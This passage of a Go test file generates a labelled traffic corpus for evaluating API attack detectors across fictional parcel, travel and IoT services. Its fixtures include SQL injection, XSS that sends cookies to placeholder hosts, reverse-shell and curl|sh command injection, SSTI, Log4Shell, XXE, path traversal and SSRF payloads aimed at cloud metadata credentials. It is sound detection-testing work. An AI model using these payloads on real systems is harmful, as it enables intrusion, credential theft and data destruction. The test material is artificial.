package detect_test

// Holdout corpus 3: an independent labelled corpus for the stateless technique
// detectors, written from docs/detect.md alone (no detector code, no other
// corpus read). APIs: a parcel-tracking API (api.parcel.example), a
// travel-booking API (api.trips.example) and an IoT device-management API with
// GraphQL (iot.example). Time base 2026-09-15.
//
// Regenerate: go test ./detect/ -run TestHoldout3Generate -update-holdout3
// Without the flag the test checks that the files equal the generator's output.

import (
	"bytes"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

var updateHoldout3 = flag.Bool("update-holdout3", false, "rewrite detect/testdata/holdout3 from its generator")

const (
	h3Parcel = "https://api.parcel.example"
	h3Trips  = "https://api.trips.example"
	h3IoT    = "https://iot.example"

	h3SQLi      = "detect.injection.sqli"
	h3XSS       = "detect.injection.xss"
	h3Other     = "detect.injection.other"
	h3SSRF      = "detect.ssrf"
	h3JWT       = "detect.auth.jwt"
	h3Verbose   = "detect.misconfig.verbose"
	h3Sensitive = "detect.exposure.sensitive"
	h3Limits    = "detect.resource.limits"
)

var h3T0 = time.Date(2026, 9, 15, 6, 0, 0, 0, time.UTC)

// ---- wire types (docs/traffic-format.md) ----

type h3Wire struct {
	ID       string     `json:"id"`
	Time     string     `json:"time"`
	Sensor   string     `json:"sensor"`
	Client   h3Client   `json:"client"`
	Request  h3Request  `json:"request"`
	Response h3Response `json:"response"`
	Duration float64    `json:"duration_ms"`
}

type h3Client struct {
	Addr string `json:"addr"`
}

type h3Request struct {
	Method   string              `json:"method"`
	URL      string              `json:"url"`
	Proto    string              `json:"proto"`
	Headers  map[string][]string `json:"headers"`
	Body     string              `json:"body,omitempty"`
	BodySize int64               `json:"body_size"`
	Trunc    bool                `json:"truncated,omitempty"`
}

type h3Response struct {
	Status   int                 `json:"status"`
	Proto    string              `json:"proto"`
	Headers  map[string][]string `json:"headers"`
	Body     string              `json:"body,omitempty"`
	BodySize int64               `json:"body_size"`
}

type h3Label struct {
	ID        string   `json:"id"`
	Detectors []string `json:"detectors"`
}

// h3Case is one exchange before ids, times and clients are assigned.
type h3Case struct {
	method   string
	url      string
	hdr      map[string][]string
	body     string
	bodySize int64 // 0: len(body)
	status   int
	rhdr     map[string][]string
	rbody    string
	labels   []string
}

// ---- small helpers ----

func h3JSON(v any) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

func h3Pick[T any](xs []T, i int) T { return xs[((i%len(xs))+len(xs))%len(xs)] }

var h3UAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
	"ParcelTrack/5.12.0 (iPhone; iOS 17.6.1; Scale/3.00)",
	"okhttp/4.12.0",
	"TripsApp/3.41.2 (Android 14; Pixel 8)",
	"python-requests/2.32.3",
	"Go-http-client/2.0",
	"axios/1.7.7",
	"curl/8.9.1",
	"iot-agent/2.4.1 (esp32; fw 2.4.1)",
	"Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
	"PostmanRuntime/7.41.2",
	"Apache-HttpClient/5.3.1 (Java/21.0.4)",
	"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
}

var h3Clients = []string{
	"100.64.12.7:51234", "100.72.200.14:40112", "100.100.3.9:62001", "100.127.250.33:33010",
	"[2001:db8:4::17]:50122", "[2001:db8:ab::1c2]:41877", "[2001:db8:1f00::9]:60001",
	"81.2.69.160:52110", "5.45.207.12:48891", "89.160.20.112:39112", "216.160.83.56:55012",
	"175.16.199.4:43121", "2.125.160.216:51009", "67.43.156.3:34567", "100.88.1.200:47001",
	"[2001:db8:77::5]:44320", "100.96.40.41:58812", "149.101.100.5:61022",
}

func h3Hdr(kv ...string) map[string][]string {
	h := map[string][]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		h[kv[i]] = append(h[kv[i]], kv[i+1])
	}
	return h
}

func h3RespJSON(extra ...string) map[string][]string {
	h := h3Hdr("Content-Type", "application/json; charset=utf-8", "Cache-Control", "no-store",
		"X-Content-Type-Options", "nosniff", "Strict-Transport-Security", "max-age=31536000")
	for i := 0; i+1 < len(extra); i += 2 {
		h[extra[i]] = []string{extra[i+1]}
	}
	return h
}

func h3B64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

// h3Sig makes a deterministic signature-looking segment of n bytes.
func h3Sig(seed string, n int) string {
	var out []byte
	for i := 0; len(out) < n; i++ {
		s := sha512.Sum512([]byte(fmt.Sprintf("%s#%d", seed, i)))
		out = append(out, s[:]...)
	}
	return h3B64(out[:n])
}

func h3Hex(seed string, n int) string {
	s := sha256.Sum256([]byte(seed))
	h := hex.EncodeToString(s[:])
	for len(h) < n {
		s = sha256.Sum256([]byte(h))
		h += hex.EncodeToString(s[:])
	}
	return h[:n]
}

// h3Alnum makes a deterministic string over the alphabet.
func h3Alnum(seed string, n int, alphabet string) string {
	h := h3Hex(seed, 2*n)
	var b strings.Builder
	for i := 0; i < n; i++ {
		var v int
		fmt.Sscanf(h[2*i:2*i+2], "%02x", &v)
		b.WriteByte(alphabet[v%len(alphabet)])
	}
	return b.String()
}

const (
	h3Upper   = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	h3Mixed   = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	h3B64Alph = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
)

// h3Token builds a JWT from a header and claims; sig is the signature segment
// (may be empty). noSig drops the signature segment and its dot.
func h3Token(header, claims map[string]any, sig string, noSig bool) string {
	t := h3B64([]byte(h3JSON(header))) + "." + h3B64([]byte(h3JSON(claims)))
	if noSig {
		return t
	}
	return t + "." + sig
}

// h3ValidJWT is a well-formed, unexpired token with a real-looking signature.
func h3ValidJWT(i int) string {
	algs := []string{"HS256", "RS256", "ES256", "RS256", "PS256"}
	alg := h3Pick(algs, i)
	hdr := map[string]any{"alg": alg, "typ": "JWT"}
	if alg != "HS256" {
		hdr["kid"] = h3Pick([]string{"2026-09-key_1", "k8s-sa-01", "c0ffee42", "auth-prod-2026q3"}, i)
	}
	iat := h3T0.Add(-time.Duration(i%50) * time.Minute)
	claims := map[string]any{
		"sub": fmt.Sprintf("usr_%s", h3Alnum(fmt.Sprint("sub", i%97), 10, h3Mixed)),
		"iss": h3Pick([]string{"https://auth.parcel.example/", "https://login.trips.example", "https://id.iot.example"}, i),
		"aud": h3Pick([]string{"parcel-api", "trips-api", "iot-console"}, i),
		"iat": iat.Unix(),
		// Valid for the whole corpus, which spans a little over an hour
		// (a first version expired some of these tokens minutes before
		// the requests that carried them, which the API then accepted:
		// what detect.auth.jwt rightly reports, under a benign label).
		"exp":   iat.Add(time.Duration(24+i%12) * time.Hour).Unix(),
		"scope": h3Pick([]string{"read:parcels write:shipments", "bookings:rw profile", "devices:read telemetry:read", "devices:admin"}, i),
	}
	n := 32
	switch alg {
	case "RS256", "PS256":
		n = 256
	case "ES256":
		n = 64
	}
	return h3Token(hdr, claims, h3Sig(fmt.Sprint("valid", i), n), false)
}

func h3Bearer(i int) string { return "Bearer " + h3ValidJWT(i) }

// ---- request placements for injection-style payloads ----

// h3Place puts payload p somewhere real APIs carry data; k picks the place.
func h3Place(p string, k int, label ...string) h3Case {
	ua := h3Pick(h3UAs, k)
	auth := h3Bearer(k + 3)
	c := h3Case{status: 200, rhdr: h3RespJSON(), labels: label}
	switch k % 14 {
	case 0: // query parameter
		c.method = "GET"
		c.url = h3Parcel + "/api/v1/parcels?q=" + url.QueryEscape(p) + "&limit=20"
		c.hdr = h3Hdr("User-Agent", ua, "Accept", "application/json", "Authorization", auth)
		c.rbody = `{"items":[],"next_cursor":null}`
	case 1: // path segment
		c.method = "GET"
		c.url = h3Trips + "/v2/bookings/" + url.PathEscape(p) + "/summary"
		c.hdr = h3Hdr("User-Agent", ua, "Accept", "application/json", "Authorization", auth)
		c.status = 404
		c.rbody = `{"error":"booking_not_found"}`
	case 2: // JSON body, nested
		c.method = "POST"
		c.url = h3Parcel + "/api/v1/shipments"
		c.hdr = h3Hdr("User-Agent", ua, "Content-Type", "application/json", "Authorization", auth)
		c.body = h3JSON(map[string]any{"sender": map[string]any{"name": "Dana Whitfield", "address": map[string]any{"line1": p, "city": "Leeds", "postcode": "LS1 4DY"}}, "service": "next_day", "weightKg": 2.4})
		c.status = 201
		c.rbody = `{"shipmentId":"SHP-7731902","status":"created"}`
	case 3: // form body
		c.method = "POST"
		c.url = h3Trips + "/v2/search/hotels"
		c.hdr = h3Hdr("User-Agent", ua, "Content-Type", "application/x-www-form-urlencoded")
		c.body = url.Values{"city": {"Lisbon"}, "guests": {"2"}, "keyword": {p}}.Encode()
		c.rbody = `{"hotels":[],"total":0}`
	case 4: // JSON array element
		c.method = "PUT"
		c.url = h3IoT + "/api/v1/devices/dev_8Hq2kL/tags"
		c.hdr = h3Hdr("User-Agent", ua, "Content-Type", "application/json", "Authorization", auth)
		c.body = h3JSON(map[string]any{"tags": []any{"basement", p, "floor-2"}})
		c.rbody = `{"ok":true}`
	case 5: // GraphQL variable
		c.method = "POST"
		c.url = h3IoT + "/graphql"
		c.hdr = h3Hdr("User-Agent", ua, "Content-Type", "application/json", "Authorization", auth)
		c.body = h3JSON(map[string]any{"operationName": "DeviceSearch", "query": "query DeviceSearch($name: String!) { devices(filter: {name: $name}, first: 20) { edges { node { id name } } } }", "variables": map[string]any{"name": p}})
		c.rbody = `{"data":{"devices":{"edges":[]}}}`
	case 6: // User-Agent header
		c.method = "GET"
		c.url = h3Parcel + "/api/v1/depots?postcode=M1%201AE"
		c.hdr = h3Hdr("User-Agent", p, "Accept", "application/json")
		c.rbody = `{"depots":[{"id":"DEP-MAN-04","name":"Manchester Central"}]}`
	case 7: // Referer header
		c.method = "GET"
		c.url = h3Trips + "/v2/destinations/popular"
		c.hdr = h3Hdr("User-Agent", ua, "Referer", "https://www.trips.example/search?q="+url.QueryEscape(p))
		c.rbody = `{"destinations":["Porto","Kraków","Split"]}`
	case 8: // X-Api-Version header
		c.method = "GET"
		c.url = h3IoT + "/api/v1/firmware/latest?model=esp32-s3"
		c.hdr = h3Hdr("User-Agent", ua, "X-Api-Version", p, "Authorization", auth)
		c.rbody = `{"version":"2.4.1"}`
	case 9: // non-credential cookie
		c.method = "GET"
		c.url = h3Trips + "/v2/offers"
		c.hdr = h3Hdr("User-Agent", ua, "Cookie", "locale=en-GB; last_search="+url.QueryEscape(p)+"; currency=EUR")
		c.rbody = `{"offers":[]}`
	case 10: // snake_case JSON at depth
		c.method = "PATCH"
		c.url = h3Trips + "/v2/profile"
		c.hdr = h3Hdr("User-Agent", ua, "Content-Type", "application/json", "Authorization", auth)
		c.body = h3JSON(map[string]any{"traveller": map[string]any{"preferences": map[string]any{"meal_request": p, "seat": "aisle"}}})
		c.rbody = `{"updated":true}`
	case 11: // second query parameter, raw-ish placement
		c.method = "GET"
		c.url = h3IoT + "/api/v1/telemetry?device_id=dev_77Ab&metric=" + url.QueryEscape(p) + "&from=2026-09-14T00:00:00Z"
		c.hdr = h3Hdr("User-Agent", ua, "Authorization", auth)
		c.rbody = `{"points":[]}`
	case 12: // multipart field
		c.method = "POST"
		c.url = h3Parcel + "/api/v1/claims"
		c.hdr = h3Hdr("User-Agent", ua, "Content-Type", "multipart/form-data; boundary=----h3b0undary", "Authorization", auth)
		c.body = "------h3b0undary\r\nContent-Disposition: form-data; name=\"tracking\"\r\n\r\nPX482019GB\r\n------h3b0undary\r\nContent-Disposition: form-data; name=\"description\"\r\n\r\n" + p + "\r\n------h3b0undary--\r\n"
		c.status = 202
		c.rbody = `{"claimId":"CLM-33019","status":"received"}`
	default: // X-Forwarded-For header
		c.method = "GET"
		c.url = h3Parcel + "/api/v1/service-points?lat=53.48&lng=-2.24"
		c.hdr = h3Hdr("User-Agent", ua, "X-Forwarded-For", p)
		c.rbody = `{"points":[]}`
	}
	return c
}

// ---- SQL injection (boolean, union, error, time, stacked, comment, encodings) ----

var h3SQLiPayloads = []string{
	// boolean blind with mixed case and inline comments
	`1' AnD 1=1-- -`,
	`1)/**/oR/**/(7=7`,
	`-3418' OR 8142=8142#`,
	`' oR 1 LiKe 1 lImIt 1 -- x`,
	`") OR ("x"="x`,
	`1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- `,
	// union based
	`x' UniOn/**/SeLeCt null,table_name,null FROM information_schema.tables#`,
	`1 UNION ALL SELECT NULL,NULL,CHR(113)||CHR(118)||CHR(106),NULL FROM DUAL--`,
	`0 /*!50000UNION*/ /*!50000SELECT*/ 1,user(),3`,
	`1' ORDER BY 7-- -`,
	`-1' union%0aselect 1,group_concat(email,0x3a,pass),3 from accounts-- -`,
	// error based
	`1 AND extractvalue(1,concat(0x7e,(select @@version)))`,
	`1' and updatexml(null,concat(0x3a,user()),null)-- `,
	`x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--`,
	`1' AND 1=CAST((SELECT current_database()) AS int)--`,
	// time based
	`1' AND (SELECT 4721 FROM (SELECT(SLEEP(6)))aBc)-- qWe`,
	`1;WAITFOR DELAY '0:0:7'--`,
	`' || pg_sleep(5)--`,
	`1' AND 5650=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)--`,
	`1' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--`,
	`1'+OR+IF(1=1,SLEEP(3),0)+--+`,
	// stacked
	`'; DROP TABLE shipments;--`,
	`desk; SELECT pg_sleep(7)--`,
	`1; exec master..xp_cmdshell 'ping 127.0.0.1'--`,
	`x'; INSERT INTO admins(login,pw) VALUES('eve','x')-- `,
	// conditional subqueries
	`(SELECT CASE WHEN (SUBSTR(version(),1,1)='8') THEN 1 ELSE 1/0 END)`,
	`1 rlike (select (case when (1=1) then 1 else 0x28 end))`,
	`(select*from(select(benchmark(5000000,md5(1))))a)`,
	// open quote commented out
	`admin'/*`,
	`ops@parcel.example' -- `,
	`PX482019GB' #`,
	// HAVING / GROUP BY enumeration
	`tracking' GROUP BY 1,2,3 HAVING 1=1--`,
}

// ---- XSS (event handlers, SVG, polyglots, script URLs, encodings) ----

var h3XSSPayloads = []string{
	"<svg/onload=alert`1`>",
	`<img src=x onerror=confirm(document.domain)>`,
	`"><details open ontoggle=fetch('//x.example/'+document.cookie)>`,
	`<iFrAmE sRc=jaVasCript:alert(1)>`,
	`jaVasCript:/*-/*` + "`" + `/*\` + "`" + `/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>\x3e`,
	`<body onpageshow=alert(1)>`,
	`<a href="jav&#x09;ascript:alert(1)">track</a>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`<input autofocus onfocus=alert(1)>`,
	`<video><source onerror="alert(1)">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<x onpointerenter=alert(1)>hover me`,
	`</script><script>alert(String.fromCharCode(88,83,83))</script>`,
	`<object data="javascript:alert(1)">`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<img src=1 oNeRrOr=eval(atob('YWxlcnQoMSk='))>`,
	`vbscript:msgbox("x")`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<form><button formaction=javascript:alert(1)>go`,
	`<img src="x" onerror="&#97;lert(1)">`,
	`<svg><script href=data:,alert(1) />`,
	`" autofocus onfocus=alert(1) x="`,
	`<embed src=javascript:alert(1)>`,
	`<div style="width:1px" onmouseover="alert(1)">`,
	`<audio src onloadstart=alert(1)>`,
	`<ScRiPt>fetch("https://collect.example/?c="+document.cookie)</sCrIpT>`,
	`<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a>`,
	`<img/src/onerror=import('//x.example/p.js')>`,
	`<select autofocus onfocus=alert(1)>`,
	`<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">`,
	`<table background="javascript:alert(1)">`,
}

// ---- other injection: command injection ----

var h3CmdPayloads = []string{
	`;id`,
	`|cat${IFS}/etc/passwd`,
	"`uname -a`",
	`$(curl -s http://203.0.113.9/x|sh)`,
	"PX1\nwget http://198.51.100.2/s -O /tmp/s",
	`&& w'h'o'am'i`,
	`|| c\at /etc/shadow`,
	`; /???/c?t /e??/p?sswd`,
	`;{cat,/etc/passwd}`,
	`127.0.0.1;nc -e /bin/sh 198.51.100.7 4444`,
	`a$(sleep${IFS}5)`,
	`8.8.8.8 | bash -i >& /dev/tcp/198.51.100.7/443 0>&1`,
	`x;w\ho\am\i`,
	`;$'\x69\x64'`,
	"|| ping -n 3 127.0.0.1 &",
	`& type C:\Windows\win.ini`,
}

// ---- other injection: path traversal (plain, encoded, double, overlong, NUL) ----

var h3TraversalPayloads = []string{
	`../../../../etc/passwd`,
	`..%2f..%2f..%2f..%2fetc%2fshadow`,
	`%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd`,
	`..%c0%af..%c0%af..%c0%afetc/passwd`,
	`....//....//....//etc/hosts`,
	`..\..\..\..\windows\win.ini`,
	`/var/www/app/../../../etc/passwd%00.pdf`,
	`..%00/..%00/..%00/etc/passwd`,
	`%2e%2e/%2e%2e/%2e%2e/proc/self/environ`,
	`..%5c..%5c..%5cboot.ini`,
	`labels/../../../../root/.ssh/id_rsa`,
	`%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd`,
}

// ---- other injection: SSTI (Jinja2, Twig, Freemarker, Velocity, ERB, Thymeleaf, Smarty, Razor) ----

var h3SSTIPayloads = []string{
	`{{config.__class__.__init__.__globals__['os'].popen('id').read()}}`,
	`{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}`,
	`{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')}}`,
	`{{lipsum.__globals__.os.popen('cat /etc/passwd').read()}}`,
	`{{['id']|filter('system')}}`,
	`{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`,
	`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`,
	`${"freemarker.template.utility.Execute"?new()("whoami")}`,
	`#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x`,
	`<%= ` + "`id`" + ` %>`,
	`<%= system('cat /etc/passwd') %>`,
	`__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x`,
	`*{T(java.lang.Runtime).getRuntime().exec('whoami')}`,
	`{system('id')}`,
	`@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))`,
	`{{ ''.__class__.__mro__[1].__subclasses__() }}`,
}

// ---- other injection: Log4Shell / JNDI (plain and obfuscated) ----

var h3JNDIPayloads = []string{
	`${jndi:ldap://198.51.100.23:1389/a}`,
	`${${lower:j}ndi:${lower:r}mi://x.example/o}`,
	`${${::-j}${::-n}${::-d}${::-i}:dns://x.oast.example/z}`,
	`${j${env:NOPE:-n}di:ldaps://c2.example/z}`,
	`${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}`,
	`${${upper:J}NDI:iiop://x.example/a}`,
	`${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}`,
	`${jndi:ldap://${sys:java.version}.${env:HOSTNAME}.x.oast.example/a}`,
}

// h3NoSQLCases are NoSQL operator injections in JSON, form and query syntax.
func h3NoSQLCases() []h3Case {
	var out []h3Case
	add := func(method, u, ct, body string, k int) {
		c := h3Case{method: method, url: u, status: 200, rhdr: h3RespJSON(), rbody: `{"ok":true}`, labels: []string{h3Other}, body: body,
			hdr: h3Hdr("User-Agent", h3Pick(h3UAs, k), "Accept", "application/json")}
		if ct != "" {
			c.hdr["Content-Type"] = []string{ct}
		}
		out = append(out, c)
	}
	add("POST", h3Parcel+"/api/v1/auth/login", "application/json", `{"username":"admin","password":{"$ne":null}}`, 1)
	add("POST", h3Trips+"/v2/auth/session", "application/json", `{"email":{"$gt":""},"password":{"$gt":""}}`, 2)
	add("POST", h3IoT+"/api/v1/login", "application/x-www-form-urlencoded", `user%5B%24ne%5D=x&pass%5B%24ne%5D=x`, 3)
	add("GET", h3Parcel+"/api/v1/parcels?$where=sleep(5000)", "", "", 4)
	add("POST", h3Trips+"/v2/bookings/search", "application/json", `{"filter":{"$where":"this.passengerEmail.match(/^a/) && sleep(100)"}}`, 5)
	add("POST", h3IoT+"/api/v1/operators/login", "application/json", `{"login":{"$regex":"^adm"},"password":{"$ne":1}}`, 6)
	add("GET", h3Trips+"/v2/users?username[$regex]=.*&password[$exists]=true", "", "", 7)
	add("POST", h3IoT+"/api/v1/devices/query", "application/json", `{"filter":{"$function":{"body":"function(){sleep(3000);return true}","args":[],"lang":"js"}}}`, 8)
	add("POST", h3Parcel+"/api/v1/accounts/reset", "application/json", `{"resetToken":{"$ne":"x"},"newPassword":"Winter2026!"}`, 9)
	add("POST", h3Trips+"/v2/auth/otp/verify", "application/x-www-form-urlencoded", `phone=%2B447700900123&code[$nin][]=000000`, 10)
	return out
}

// h3XXECases are XML external entities, parameter entities, expansion, XInclude, in SOAP, SVG and plain XML.
func h3XXECases() []h3Case {
	bodies := []struct{ u, ct, body string }{
		{h3Parcel + "/api/v1/customs/declarations", "application/xml", `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><declaration><hsCode>&x;</hsCode></declaration>`},
		{h3Parcel + "/soap/CustomsService", "text/xml; charset=utf-8", `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE soap:Envelope [<!ENTITY % ext SYSTEM "http://198.51.100.50/evil.dtd"> %ext;]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetDuty><Code>8471</Code></GetDuty></soap:Body></soap:Envelope>`},
		{h3Trips + "/v2/gds/OTA_AirAvail", "application/soap+xml", `<?xml version="1.0"?><!DOCTYPE r [<!ELEMENT r ANY><!ENTITY % sp SYSTEM "https://oob.example/x.dtd">%sp;%param1;]><r>&exfil;</r>`},
		{h3IoT + "/api/v1/devices/import", "application/xml", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><devices><device>&lol3;</device></devices>`},
		{h3Trips + "/v2/itineraries/import", "application/xml", `<itinerary xmlns:xi="http://www.w3.org/2001/XInclude"><note><xi:include parse="text" href="file:///etc/hostname"/></note></itinerary>`},
		{h3IoT + "/api/v1/floorplans", "image/svg+xml", `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///proc/self/environ">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><text x="10" y="20">&xxe;</text></svg>`},
		{h3Parcel + "/api/v1/manifests", "text/xml", `<!DOCTYPE m SYSTEM "http://127.0.0.1:8080/internal.dtd"><manifest><parcel id="1"/></manifest>`},
		{h3Trips + "/v2/invoices/upload", "application/xml", `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/.env">]><invoice><ref>&xxe;</ref></invoice>`},
		{h3Parcel + "/soap/TrackingService", "text/xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY t SYSTEM "expect://id">]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><Track><No>&t;</No></Track></soapenv:Body></soapenv:Envelope>`},
		{h3IoT + "/api/v1/config/upload", "application/xml", `<?xml version="1.0"?><!DOCTYPE cfg [<!ENTITY % a SYSTEM "file:///etc/shadow"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM 'http://198.51.100.9/?%a;'>">%b;%c;]><cfg/>`},
	}
	var out []h3Case
	for i, b := range bodies {
		out = append(out, h3Case{method: "POST", url: b.u, body: b.body, status: 200,
			hdr:  h3Hdr("User-Agent", h3Pick(h3UAs, i+2), "Content-Type", b.ct, "Authorization", h3Bearer(i+40)),
			rhdr: h3RespJSON(), rbody: `{"accepted":true}`, labels: []string{h3Other}})
	}
	// an SVG uploaded in multipart with an external entity
	out = append(out, h3Case{method: "POST", url: h3Trips + "/v2/profile/avatar", status: 200,
		hdr:  h3Hdr("User-Agent", h3UAs[0], "Content-Type", "multipart/form-data; boundary=XyZh3", "Authorization", h3Bearer(77)),
		body: "--XyZh3\r\nContent-Disposition: form-data; name=\"file\"; filename=\"me.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&f;</text></svg>\r\n--XyZh3--\r\n",
		rhdr: h3RespJSON(), rbody: `{"avatarUrl":"https://cdn.trips.example/a/u_81.svg"}`, labels: []string{h3Other}})
	return out
}

// ---- SSRF targets (metadata, loopback, private, CGNAT, link-local; spellings; schemes) ----

var h3SSRFTargets = []string{
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"http://2852039166/latest/user-data",
	"http://0251.0376.0251.0376/latest/meta-data/",
	"http://0xa9fea9fe/computeMetadata/v1/",
	"http://[::ffff:169.254.169.254]/latest/api/token",
	"http://127.1:8080/actuator/env",
	"http://0/",
	"http://[::1]:6379/",
	"http://status.parcel.example@127.0.0.1:2375/containers/json",
	"https://trusted.example.com@10.0.0.5/admin",
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
	"http://100.100.100.200/latest/meta-data/ram/security-credentials/",
	"http://[fd00:ec2::254]/latest/meta-data/",
	"file:///etc/passwd",
	"gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
	"dict://10.0.0.12:11211/stats",
	"ldap://192.168.1.10:389/dc=corp,dc=local",
	"http://app.10.0.0.1.nip.io/",
	"http://7f000001.nip.io:8500/v1/agent/self",
	"http://hooks.localtest.me:9000/",
	"http://017700000001/server-status",
	"http://0x7f.0x0.0x0.0x1/",
	"http://①②⑦.⓪.⓪.①/",
	"http://172.16.4.20:9200/_cat/indices?v",
	"http://[0:0:0:0:0:ffff:7f00:1]:8000/",
	"http://169.254.170.2/v2/credentials/8f2c",
	"http://dev.lvh.me:3000/debug",
	"http://192.168.0.1:80/cgi-bin/luci",
	"http://100.64.0.10:8080/internal/metrics",
	"http://10.1.2.3/",
	"http://[::ffff:a9fe:a9fe]/latest/meta-data/",
	"http://169.254.169.254.nip.io/latest/meta-data/",
	"http://user:pass@[::1]:8443/",
	"file://localhost/c:/windows/win.ini",
	"gopher://10.0.0.7:25/_HELO%20x",
	"http://0x0a.0x00.0x00.0x01:5000/",
	"http://2130706433:11211/",
	"http://127.000.000.001/",
	"http://metadata/computeMetadata/v1/",
	"http://instance-data/latest/meta-data/",
}

// h3SSRFCase places an internal URL in a URL-valued field.
func h3SSRFCase(target string, k int) h3Case {
	ua := h3Pick(h3UAs, k+5)
	auth := h3Bearer(k + 11)
	c := h3Case{status: 200, rhdr: h3RespJSON(), labels: []string{h3SSRF}}
	switch k % 8 {
	case 0:
		c.method, c.url = "POST", h3Parcel+"/api/v1/webhooks"
		c.body = h3JSON(map[string]any{"webhookUrl": target, "events": []string{"parcel.delivered"}})
		c.rbody = `{"id":"wh_2291","active":true}`
	case 1:
		c.method, c.url = "PUT", h3Trips+"/v2/profile/avatar"
		c.body = h3JSON(map[string]any{"avatar_url": target})
		c.rbody = `{"updated":true}`
	case 2:
		c.method, c.url = "GET", h3Trips+"/v2/preview?url="+url.QueryEscape(target)
		c.rbody = `{"title":""}`
	case 3:
		c.method, c.url = "POST", h3IoT+"/graphql"
		c.body = h3JSON(map[string]any{"query": "mutation SetOta($id: ID!, $src: String!) { setFirmwareSource(deviceId: $id, sourceUrl: $src) { ok } }", "variables": map[string]any{"id": "dev_41", "src": target}})
		c.rbody = `{"data":{"setFirmwareSource":{"ok":true}}}`
	case 4:
		c.method, c.url = "POST", h3Parcel+"/api/v1/integrations"
		c.hdr = h3Hdr("Content-Type", "application/x-www-form-urlencoded")
		c.body = url.Values{"name": {"erp"}, "callback_url": {target}}.Encode()
		c.rbody = `{"ok":true}`
	case 5:
		c.method, c.url = "POST", h3IoT+"/api/v1/devices/dev_90/export"
		c.body = h3JSON(map[string]any{"destination": map[string]any{"type": "http", "endpoint": target}})
		c.rbody = `{"jobId":"exp_311"}`
	case 6:
		c.method, c.url = "GET", h3Parcel+"/api/v1/labels/render?template="+url.QueryEscape(target)+"&format=pdf"
		c.rbody = `{"status":"queued"}`
	default:
		c.method, c.url = "POST", h3Trips+"/v2/imports/ical"
		c.body = h3JSON(map[string]any{"feeds": []any{map[string]any{"feedUrl": target}}})
		c.rbody = `{"imported":0}`
	}
	if c.hdr == nil {
		c.hdr = h3Hdr()
		if c.body != "" {
			c.hdr["Content-Type"] = []string{"application/json"}
